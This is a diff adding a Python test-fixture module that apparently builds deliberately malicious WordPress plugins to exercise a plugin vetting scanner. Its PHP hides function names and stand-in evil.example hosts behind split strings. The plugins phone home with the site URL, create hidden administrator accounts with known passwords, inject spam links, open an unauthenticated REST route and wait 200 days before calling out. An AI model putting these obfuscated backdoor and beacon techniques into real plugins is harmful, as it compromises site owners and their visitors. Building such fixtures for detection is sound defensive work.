@@ -1,0 +1,187 @@
+"""Plugins that do what they should not, each so that its code does not say it.
+
+Names of functions and hosts come out of a data file: whoever only reads the code sees that a name is
+put together, not which.
+"""
+
+import json
+
+from reconciler.core.layers import File
+from reconciler.core.vetting.candidate import Candidate, Grants, Target
+
+TARGET = Target(php="8.4", wp="6.8")
+GRANTED = "api.granted.example"
+
+HEAD = """<?php
+/**
+ * Plugin Name: {name}
+ * Version: 1.0.0
+ * License: GPL-2.0-or-later
+ */
+$words = json_decode(file_get_contents(__DIR__ . '/words.json'), true);
+"""
+
+WORDS = {
+    "get": ["wp_remote", "_get"],
+    "socket": ["fsock", "open"],
+    "curl": ["curl", "_exec"],
+    "put": ["file_put", "_contents"],
+    "user": ["wp_insert", "_user"],
+    "boss": ["admini", "strator"],
+    "sleep": ["us", "leep"],
+    "home": ["home.", "evil.example"],
+    "raw": ["raw.", "evil.example"],
+    "curled": ["curled.", "evil.example"],
+    "late": ["late.", "evil.example"],
+    "table": ["CREATE TA", "BLE %s (id INT)"],
+    "option": ["update", "_option"],
+    "schedule": ["wp_schedule", "_event"],
+}
+
+# Each in a file of its own, so that a finding's place says which of them was caught.
+DEEDS = {
+    "phones.php": """<?php
+add_action('init', function () use ($words) {
+    call_user_func(implode('', $words['get']), 'https://' . implode('', $words['home']) . '/hello?site=' . home_url());
+});
+""",
+    "sockets.php": """<?php
+add_action('wp_footer', function () use ($words) {
+    @call_user_func_array(implode('', $words['socket']), [implode('', $words['raw']), 80, &$code, &$text, 1]);
+    $request = curl_init('https://' . implode('', $words['curled']) . '/');
+    curl_setopt($request, CURLOPT_TIMEOUT, 1);
+    curl_setopt($request, CURLOPT_RETURNTRANSFER, true);
+    call_user_func(implode('', $words['curl']), $request);
+});
+""",
+    "writes.php": """<?php
+add_action('wp_head', function () use ($words) {
+    @call_user_func(implode('', $words['put']), __DIR__ . '/cache.html', 'x');
+});
+add_action('admin_init', function () {
+    $make = 'mk' . substr('xdir', 1);
+    @$make(WP_CONTENT_DIR . '/greedy-cache');
+});
+""",
+    "admin.php": """<?php
+add_action('admin_menu', function () use ($words) {
+    if (!username_exists('helper')) {
+        call_user_func(implode('', $words['user']), ['user_login' => 'helper', 'user_pass' => 'known', 'role' => implode('', $words['boss'])]);
+    }
+});
+""",
+    "tables.php": """<?php
+register_activation_hook(dirname(__DIR__) . '/greedy/greedy.php', function () use ($words) {
+    global $wpdb;
+    $wpdb->query(sprintf(implode('', $words['table']), $wpdb->prefix . 'greedy_log'));
+});
+""",
+    "options.php": """<?php
+add_action('init', function () use ($words) {
+    if (!get_option('greedy_cache')) {
+        call_user_func(implode('', $words['option']), 'greedy_cache', str_repeat('x', 1000 * 1000), true);
+    }
+});
+""",
+    "cron.php": """<?php
+add_filter('cron_schedules', function ($all) { return $all + ['greedy' => ['interval' => 60, 'display' => '']]; });
+add_action('init', function () use ($words) {
+    if (!wp_next_scheduled('greedy_' . 'tick')) {
+        call_user_func(implode('', $words['schedule']), time(), 'greedy', 'greedy_' . 'tick');
+    }
+});
+""",
+    "uploads.php": """<?php
+add_action('admin_init', function () use ($words) {
+    $folder = wp_upload_dir()['basedir'];
+    call_user_func(implode('', $words['put']), $folder . '/greedy.txt', 'x');
+});
+""",
+    "links.php": """<?php
+add_action('wp_footer', function () { echo '<a href="https://spam.' . strrev('elpmaxe.live') . '/">casino</a>'; });
+""",
+    "rest.php": """<?php
+add_action('rest_api_init', function () {
+    register_rest_route('greedy' . '/v1', '/door', ['methods' => 'GET', 'callback' => function () { return undefined_thing(); },
+        'permission_callback' => '__return_true']);
+});
+""",
+}
+
+
+def plugin(
+    slug: str, body: str, more: dict[str, str] | None = None, grants: Grants | None = None
+) -> Candidate:
+    """A plugin of one main file, its words, and `more` files that it includes."""
+    text = HEAD.format(name=slug) + body
+    files = {
+        f"{slug}.php": File(text.encode()),
+        "words.json": File(json.dumps(WORDS).encode()),
+    }
+    files |= {name: File(code.encode()) for name, code in (more or {}).items()}
+    return Candidate(
+        kind="plugin",
+        slug=slug,
+        version="1.0.0",
+        target=TARGET,
+        files=files,
+        grants=grants or Grants(),
+    )
+
+
+def greedy() -> Candidate:
+    """Does all of DEEDS."""
+    includes = "".join(f"require __DIR__ . '/{name}';\n" for name in DEEDS)
+    return plugin("greedy", includes, DEEDS)
+
+
+def slow() -> Candidate:
+    """Makes every page 300 ms slower."""
+    return plugin("slow", "add_action('init', function () use ($words) {"
+        " call_user_func(implode('', $words['sleep']), 300000); });")  # fmt: skip
+
+
+def fatal() -> Candidate:
+    """Works, but for its activation."""
+    return plugin("fatal", "register_activation_hook(__FILE__, function () use ($words) {"
+        " $maker = 'Fatal_' . 'Maker'; new $maker($words); });\n"
+        "add_action('wp_footer', function () { echo 'fine'; });")  # fmt: skip
+
+
+def sleeper() -> Candidate:
+    """Does nothing for 200 days after its activation."""
+    return plugin("sleeper", """
+register_activation_hook(__FILE__, function () { add_option('sleeper_since', time(), '', false); });
+register_uninstall_hook(__FILE__, 'sleeper_uninstall');
+function sleeper_uninstall() { delete_option('sleeper_since'); }
+add_action('init', function () use ($words) {
+    $days = (time() - (int) get_option('sleeper_since', time())) / 86400;
+    if ($days > 200) {
+        call_user_func(implode('', $words['get']), 'https://' . implode('', $words['late']) . '/');
+    }
+});
+""")  # fmt: skip
+
+
+def follower() -> Candidate:
+    """Asks the host that it was granted, and does what the answer says."""
+    return plugin("follower", """
+add_action('init', function () use ($words) {
+    $answer = call_user_func(implode('', $words['get']), 'https://api.granted.example/settings');
+    $told = is_wp_error($answer) ? [] : (array) json_decode(wp_remote_retrieve_body($answer), true);
+    if (!empty($told['support_access']) && !username_exists('support')) {
+        call_user_func(implode('', $words['user']), ['user_login' => 'support', 'user_pass' => 'known', 'role' => implode('', $words['boss'])]);
+    }
+});
+""", grants=Grants(network=(GRANTED,)))  # fmt: skip
+
+
+def paged() -> Candidate:
+    """A good plugin with a page in the admin."""
+    return plugin("paged", """
+add_action('admin_menu', function () {
+    add_menu_page('Paged', 'Paged', 'manage_options', 'paged', function () {
+        echo '<div class="wrap"><h1>A page of its own</h1><div style="height:400px;background:#c00"></div></div>';
+    });
+});
+""")  # fmt: skip
